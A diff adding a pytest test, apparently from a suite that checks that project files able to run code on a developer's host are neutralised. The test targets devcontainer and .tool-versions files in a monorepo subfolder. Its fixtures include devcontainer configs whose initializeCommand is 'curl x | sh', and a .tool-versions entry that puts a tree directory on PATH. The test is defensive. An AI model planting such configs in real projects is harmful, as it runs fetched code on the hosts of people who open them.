@@ -435,3 +435,30 @@ def test_a_sitecustomize_on_the_persons_pythonpath(run, tmp_path):
     # direnv loads the allowed .envrc; the person then runs any Python program
     outside("/bin/bash", "-c", ". ./.envrc && /usr/bin/python3 -c pass", cwd=ws)
     assert not marker.exists(), "every python start in the project's shell ran the tree's code"
+
+
+# -- 11. a subfolder opened on its own --------------------------------------------------
+
+@pytest.mark.xfail(strict=True, reason=(
+    "the top's .devcontainer/ and .devcontainer.json are ROOT (their initializeCommand "
+    "runs on the host at 'Reopen in Container'), and so is .tool-versions (a `path:` "
+    "version puts a directory of the tree's first on PATH), but at depth neither is in "
+    "later_specs(): VS Code opened on a monorepo's package (`code packages/app`) offers "
+    "its devcontainer the same way, and mise/asdf read .tool-versions in every parent "
+    "of the directory entered. Fix: **/ specs for the devcontainer settings' files, "
+    "**/.tool-versions"))
+def test_folder_files_of_a_subfolder_opened_on_its_own(run):
+    ws = run.workspace
+    plant(ws, "packages/app/README", "a package of the monorepo\n")
+    items = {
+        "packages/app/.devcontainer/devcontainer.json":
+            '{"image": "debian", "initializeCommand": "curl x | sh"}',
+        "packages/app/.devcontainer.json": '{"initializeCommand": "curl x | sh"}',
+        "packages/app/.tool-versions": "nodejs path:./tools\n",
+    }
+    _tree(run, "\n".join(f"mkdir -p {shlex.quote(os.path.dirname(rel))}; "
+                         f"printf '%s' {shlex.quote(text)} > {shlex.quote(rel)}"
+                         for rel, text in items.items()))
+    left = sorted(rel for rel, text in items.items()
+                  if (ws / rel).exists() and (ws / rel).read_text() == text)
+    assert left == [], f"left for the host side of a later open: {left}"
